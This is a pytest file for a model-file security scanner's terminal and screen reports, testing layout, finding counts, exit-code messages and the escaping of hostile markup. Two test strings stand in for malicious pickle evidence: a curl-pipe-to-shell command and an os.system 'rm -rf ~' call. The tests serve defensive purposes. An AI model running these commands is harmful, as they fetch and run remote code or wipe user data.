from __future__ import annotations

import re
import unicodedata

from rich.cells import cell_len
from support.cases import check_each

from modelaudit.model.copies import replace
from modelaudit.model.finding import CheckFamily, Severity
from modelaudit.model.opinion import Opinion, OpinionState
from modelaudit.model.report import Absence, AuditReport, Coverage
from modelaudit.model.structure import NOWHERE, Unread, UnreadReason
from modelaudit.model.verdict import Cause, CauseKind, Question, Verdict
from modelaudit.reports import render
from modelaudit.reports.answers import list_details
from modelaudit.reports.screen import render_screen
from modelaudit.reports.terminal import render_table
from modelaudit.reports.view import describe_accepted, list_absences

ANSI = re.compile(r"\x1b\[[0-9;]*m")


def render_as_text(report: AuditReport, **options: object) -> str:
    """Render the table of a report for a terminal, and decode it."""
    return render_table(report, **options).decode()  # type: ignore[arg-type]


def test_terminal_table_shows_its_sections_in_the_expected_order(failing: AuditReport) -> None:
    text = render_as_text(failing)
    parts = [
        "FAIL",
        "load",
        "use",
        "Not examined: 4 parts",
        "Findings: 2 critical",
        "CRITICAL",
        "HIGH",
        "\nlicence",
        "\nopinions",
        "Exit",
    ]
    places = [text.index(part) for part in parts]
    assert places == sorted(places)
    assert text.lstrip().startswith("✘ FAIL")
    assert text.splitlines()[-1].endswith("-o report.html.")


def test_table_shows_the_location_and_evidence_and_fix_of_findings(failing: AuditReport) -> None:
    text = " ".join(render_as_text(failing).split())
    for fact in (
        "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b",
        "pytorch_model.bin!archive/data.pkl, byte 1,234",
        failing.findings[0].fingerprint,
        "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
        "Do not load the file. Ask the publisher",
        "Accepted by the policy default: images carry no weights.",
        "pytorch_model.bin (entry secret.bin) The content is encrypted",
        "1 CONTRADICTED",
        "otherscan gave no opinion, so it does not confirm this report",
        "no finding in training_args.bin, unlike this report",
        "Exit code 1, fail: findings 1.",
    ):
        assert fact in text, fact


def test_table_lists_a_check_that_did_not_run_only_if_it_has_rules(failing: AuditReport) -> None:
    assert "Checks that did not run" not in render_as_text(failing)
    report = replace(failing, policy=replace(failing.policy, checks=(CheckFamily.SECURITY,)))
    assert "Checks that did not run: integrity, licence, provenance." in render_as_text(report)


def test_table_of_an_empty_model_states_that_it_is_not_a_pass(incomplete: AuditReport) -> None:
    text = render_as_text(incomplete)
    assert "INCOMPLETE   tiny\n load    ◌ incomplete There was nothing to examine." in text
    assert "examined completely" not in text
    assert "Exit code 3" in text


def test_table_of_a_pass_states_verdict_licence_and_exit_code(passing: AuditReport) -> None:
    text = render_as_text(passing)
    assert "✔ PASS   tiny" in text
    assert "Apache-2.0, stated in README.md:2." in text
    assert "Not compared: no source states digests of local files." in text
    assert "Exit code 0, pass." in text


@check_each("color", [True, False])
def test_table_contains_no_unprintable_characters_of_the_report_with_or_without_color(
    any_report: AuditReport, color: bool
) -> None:
    text = render_as_text(any_report, color=color)
    assert bool(ANSI.search(text)) is color
    plain = ANSI.sub("", text)
    unprintable = {each for each in plain if unicodedata.category(each)[0] in "CZ"} - {"\n", " "}
    assert unprintable == set()
    assert color or "\x1b" not in text


def test_table_shows_markup_of_the_model_as_text(hostile: AuditReport) -> None:
    text = render_as_text(hostile, width=4000)
    assert "[red]markup[/red] [/]" in text
    assert "\\x1b[31;1mred" in text
    assert "\\u202eexe.tnegra\\u202c" in text
    assert "\\xff\\x80\\ud800" in text


@check_each("width", [1, 40, 60, 100, 200])
def test_lines_of_the_table_fit_a_terminal_of_at_least_40_columns(any_report: AuditReport, width: int) -> None:
    lines = render_as_text(any_report, width=width).splitlines()
    # A narrower terminal gets lines of 40 columns all the same.
    assert max(map(cell_len, lines)) <= max(width, 40)


def test_wrapped_line_of_the_table_is_indented_to_the_start_of_its_text(failing: AuditReport) -> None:
    lines = render_as_text(failing, width=60).splitlines()
    load = next(index for index, line in enumerate(lines) if line.startswith(" load"))
    assert lines[load + 1].startswith(" " * len(" load    ✘ fail   "))
    reason = next(index for index, line in enumerate(lines) if line.startswith("  - ") and len(line) > 50)
    assert lines[reason + 1].startswith("    ")


def test_screen_has_the_line_of_the_second_opinion_in_every_run(failing: AuditReport, passing: AuditReport) -> None:
    def read_line(report: AuditReport, *opinions: Opinion) -> str:
        screen = render_screen(
            replace(report, opinions=opinions), files=[("html", f"{'d' * 70}/{n}") for n in range(9)]
        )
        (line,) = [line for line in screen.decode().splitlines() if line.startswith(" opinion ")]
        return line.strip()

    given = Opinion("modelscan", "0.8.8", OpinionState.GIVEN, "")
    for report in (failing, passing):
        assert read_line(report) == "opinion no second scanner ran"
        assert read_line(report, given) == "opinion modelscan 0.8.8 examined the same files: 0 findings"
        skipping = replace(given, absences=("1 file skipped",))
        assert read_line(report, skipping) == "opinion modelscan 0.8.8 examined only part of the files: 0 findings"
        counting = replace(skipping, detail="modelscan examined 6 of 15 files and reports no finding")
        assert read_line(report, counting) == "opinion modelscan 0.8.8 examined 6 of 15 files: 0 findings"
        absent = replace(given, state=OpinionState.ABSENT, detail="there was no file to read")
        assert read_line(report, absent) == "opinion modelscan 0.8.8 gave none: there was no file to read"


@check_each(
    "address, shown",
    [
        ("a.py", "a.py"),
        ("a/folder/that/is/long/for/a/line/of/this/screen/model.py", "…/long/for/a/line/of/this/screen/model.py"),
        ("a/kmeans.cpython-311-x86_64-linux-gnu-and-so-on.so", "…kmeans.cpython-311-…nux-gnu-and-so-on.so"),
        ("a/consolidated-weights-of-it-00001-of-00002.safetensors", "…00001-of-00002.safetensors"),
        (f"consolidated-weights-1-of-20{'-and-so-on' * 9}.bin", "…1-of-20-and-so-on-and-so-on-and-so-on-a…"),
    ],
)
def test_cut_place_of_a_finding_keeps_both_ends_of_a_long_file_name(
    failing: AuditReport, address: str, shown: str
) -> None:
    finding = replace(failing.findings[0], artifact=address, location=NOWHERE, rule="a/rule")
    lines = render_screen(replace(failing, findings=(finding,))).decode().splitlines()
    # The last line names the finding too, in the command that decides on it.
    line = next(line for line in lines if finding.fingerprint in line)
    assert line.endswith(f"  {shown}")


def test_screen_quotes_no_evidence_that_only_repeats_the_message(failing: AuditReport) -> None:
    def render_evidence(*evidence: str) -> str:
        finding = replace(failing.findings[0], message="This is a program: shared library (ELF).", evidence=evidence)
        return render_screen(replace(failing, findings=(finding,))).decode()

    assert "> " not in render_evidence("program shared library (ELF)")
    assert "> " not in render_evidence("line 7: program shared library (ELF)")
    assert "> run()" in render_evidence("line 7: program shared library (ELF)", "> run()")


def test_counts_of_parts_say_how_many_of_them_are_accepted(failing: AuditReport) -> None:
    for text in (render_screen(failing).decode(), render_as_text(failing)):
        assert re.search(r"^Not examined: 4 parts( of the model)?, 1 of them accepted$", text, re.MULTILINE)
    [pair] = [each for each in list_absences(failing) if each[1].acceptance]
    assert describe_accepted([pair]) == ", accepted"
    assert describe_accepted([pair, pair]) == ", all of them accepted"


def test_screen_names_the_option_that_lists_what_it_left_out(crowded: AuditReport) -> None:
    def read_title(show: Severity) -> str:
        lines = render_screen(crowded, show=show, width=200).decode().splitlines()
        return next(line for line in lines if line.startswith("Findings: "))

    assert read_title(Severity.INFO).endswith(" not listed: -v)")
    assert read_title(Severity.LOW).endswith(" not listed: -v --show info)")


def test_pass_of_12_lines_lists_the_worst_open_finding_and_the_rows_on_licence_and_files(
    passing: AuditReport, failing: AuditReport
) -> None:
    template = replace(failing.findings[0], acceptance=None)
    findings = tuple(
        replace(template, severity=severity, rule=f"a/{severity}-{number}", key=str(number), artifact=f"{number}.py")
        for severity in (Severity.MEDIUM, Severity.LOW)
        for number in range(8)
    )
    load = replace(passing.decision.load, reason="A reason that takes more than a line. " * 6)
    for decision in (passing.decision, replace(passing.decision, load=load)):
        lines = render_screen(replace(passing, findings=findings, decision=decision)).decode().splitlines()
        assert len(lines) <= 12
        assert [line for line in lines if line.startswith(" ◆ medium ")]
        if decision is passing.decision:
            assert len(lines) == 12
            assert {" licence", " files "} <= {
                line[:8].ljust(7) if "licence" in line[:8] else line[:7] for line in lines
            }
        assert not [line for line in lines if line.startswith(" ● low ")]


def test_findings_on_members_of_one_container_take_one_line(failing: AuditReport) -> None:
    finding = replace(failing.findings[0], location=NOWHERE, rule="a/rule")
    members = tuple(replace(finding, artifact=f"model.zip!{n}.pkl", key=str(n)) for n in range(5))
    files = tuple(replace(finding, artifact=f"{n}.pkl", key=str(n)) for n in range(5))
    screen = render_screen(replace(failing, findings=(*members, *files))).decode()
    (line,) = [line for line in screen.splitlines() if "model.zip" in line and "a/rule" in line]
    assert " 5 findings " in line and line.endswith(" a/rule  model.zip")
    assert all(each.fingerprint in screen for each in files)
    assert "not listed" not in screen


def test_screen_says_what_a_finding_that_fails_is_and_how_many_of_them_fail(failing: AuditReport) -> None:
    lines = render_screen(failing).decode().splitlines()
    (title,) = [line for line in lines if line.startswith("Findings: ")]
    failing_count = sum(each.acceptance is None and failing.policy.rejects(each) for each in failing.findings)
    assert f"; {failing_count} of them fail the policy" in title
    medium = next(each for each in failing.findings if each.severity is Severity.MEDIUM)
    (rule,) = [each for each in failing.rules if each.id == medium.rule]
    screen = render_screen(replace(failing, findings=(replace(medium, acceptance=None),))).decode()
    assert rule.title in " ".join(screen.split())


def test_each_reason_of_the_whole_report_names_its_question(failing: AuditReport) -> None:
    (finding, *_) = failing.findings
    load = Cause(CauseKind.FINDINGS, Question.LOAD, Verdict.FAIL, 1, "1 finding")
    use = Cause(CauseKind.LICENCE_REVIEW, Question.USE, Verdict.REVIEW, 1, "licences leave open the planned use")
    reasons = (use.reason, "Section 2 limits it.", f"{finding.artifact}: it calls os.system", load.reason)
    report = replace(failing, decision=replace(failing.decision, causes=(load, use), reasons=reasons))
    details = list_details(report)
    assert [question for question, _ in details] == [Question.LOAD, Question.LOAD, Question.USE, Question.USE]
    assert details[0][1].startswith(finding.artifact) and details[2][1].startswith("Licences leave open")
    assert f"  - load: {finding.artifact}" in render_as_text(report, width=200)
    page = render(report, "html").decode()
    assert (
        page.index("it calls os.system") < page.index("May it be used as planned?") < page.index("Section 2 limits it")
    )
    one_sided = replace(failing, decision=replace(failing.decision, causes=(load,), reasons=("3 parts were not read",)))
    assert [question for question, _ in list_details(one_sided)] == [Question.LOAD]


def test_part_that_was_read_and_holds_an_unreviewed_name_is_not_called_unexamined(failing: AuditReport) -> None:
    record = next(each for each in failing.coverage.artifacts if each.absences)
    unverified = Absence(Unread(UnreadReason.UNVERIFIED, "acme.Config"))
    coverage = Coverage((replace(record, path="a.pkl", absences=(("a.pkl", unverified),)),))
    report = replace(failing, decision=replace(failing.decision, coverage=coverage))
    for text in (render_screen(report).decode(), render_as_text(report)):
        assert "Not verified: 1 part" in text and "Not examined" not in text


def test_exit_code_of_a_pass_names_the_check_that_did_not_run(passing: AuditReport) -> None:
    open_load = replace(passing.decision.load, verdict=Verdict.INCOMPLETE)
    decision = replace(passing.decision, load=open_load)
    report = replace(passing, decision=decision, policy=replace(passing.policy, checks=(CheckFamily.LICENSE,)))
    assert "Exit code 0, pass by the terms alone, not searched for attacks." in render_as_text(report)


def test_table_counts_the_findings_that_it_hides(failing: AuditReport) -> None:
    assert "(1 below low not listed: --show info; it counts for the verdict too)" in render_as_text(
        failing, show=Severity.LOW, width=200
    )
    text = render_as_text(failing, show=Severity.HIGH, width=200)
    assert "1 low, 1 info; 3 of them fail the policy (3 below high not listed: --show info; they count" in text
    assert "MEDIUM" not in text and "license/contradiction" not in text
    assert "HIGH" in text
    assert "Exit code 1" in text
    assert "not listed" not in render_as_text(failing)


def test_show_option_hides_findings_but_no_other_part_of_the_table(failing: AuditReport) -> None:
    all_findings = render_as_text(failing, show=Severity.INFO, width=200)
    critical_findings = render_as_text(failing, show=Severity.CRITICAL, width=200)
    for part in ("Not examined: 4 parts", "\nlicence  ", "Exit code 1, fail"):
        assert part in all_findings and part in critical_findings


def test_table_cuts_and_counts_the_findings_of_one_rule(failing: AuditReport) -> None:
    first = failing.findings[2]
    findings = tuple(replace(first, artifact=f"f{n}", key=str(n), message=f"Call {n}.") for n in range(1000))
    text = render_as_text(replace(failing, findings=findings))
    assert "… and 980 more of this rule" in text
    assert len(text.splitlines()) < 200


def test_equal_findings_of_one_rule_share_an_entry_that_names_their_number(failing: AuditReport) -> None:
    first = failing.findings[0]
    findings = tuple(replace(first, artifact=f"f{n:02}", key=str(n)) for n in range(100))
    text = render_as_text(replace(failing, findings=findings))
    assert text.count(first.message[:40]) <= 2
    assert "f02, byte 1,234" in text and "f03, byte 1,234" not in text
    assert "… and 97 more places, in the HTML and JSON reports" in text


def test_finding_with_other_arguments_is_not_hidden_behind_equal_messages(failing: AuditReport) -> None:
    first = failing.findings[0]
    other = replace(first, artifact="other", key="other", evidence=("byte 78: REDUCE os.system('rm -rf ~')",))
    findings = (*(replace(first, artifact=f"f{n}", key=str(n)) for n in range(100)), other)
    assert "rm -rf ~" in render_as_text(replace(failing, findings=findings))


def test_few_equal_findings_have_an_entry_each(failing: AuditReport) -> None:
    findings = tuple(replace(failing.findings[0], artifact=f"f{n}", key=str(n)) for n in range(4))
    text = render_as_text(replace(failing, findings=findings))
    assert "more places" not in text and "f3, byte 1,234" in text


def test_table_shortens_and_counts_a_long_list_of_unexamined_parts(failing: AuditReport) -> None:
    unexamined = failing.coverage.artifacts[3]
    [(_, absence)] = unexamined.absences

    def render_absences(absences: list[Absence]) -> str:
        records = tuple(
            replace(unexamined, path=f"f{n}", absences=((f"f{n}", each),)) for n, each in enumerate(absences)
        )
        coverage = replace(failing.coverage, artifacts=records)
        return render_as_text(replace(failing, decision=replace(failing.decision, coverage=coverage)))

    details = (replace(absence, unread=replace(absence.unread, detail=f"cause {n}")) for n in range(100))
    text = render_absences(list(details))
    assert "Not examined: 100 parts of the model" in text
    assert "… and 60 more" in text
    equal = render_absences([absence] * 100)
    assert "Not examined: 100 parts of the model" in equal
    assert "and 97 more, in the HTML and JSON reports" in " ".join(equal.split())


def test_table_lists_nothing_as_not_examined_if_every_file_was_examined_completely(failing: AuditReport) -> None:
    # The licence file and the card, which were read completely.
    coverage = replace(failing.coverage, artifacts=failing.coverage.artifacts[:2])
    report = replace(
        failing,
        decision=replace(failing.decision, coverage=coverage),
        policy=replace(failing.policy, checks=tuple(CheckFamily)),
        opinions=(),
    )
    text = render_as_text(report)
    assert "Not examined: nothing; every file was examined completely." in text
    assert "No second scanner ran." in text


def test_last_notes_that_fit_are_on_the_screen_and_the_others_are_counted(failing: AuditReport) -> None:
    few = ("where it came from", "what the scan removed from the cache")
    many = (*(f"note {number}" for number in range(60)), few[-1])
    for notes, shown in ((few, few), (many, few[1:])):
        target = replace(failing.target, notes=notes)
        report = replace(failing, findings=failing.findings[:1], opinions=(), target=target)
        lines = render_screen(report).decode().splitlines()
        assert [line.split(maxsplit=1)[1] for line in lines if line.lstrip().startswith("note ")][-len(shown) :] == [
            *shown
        ]
        counted = [line.strip() for line in lines if "more note" in line]
        assert bool(counted) == (notes is many)
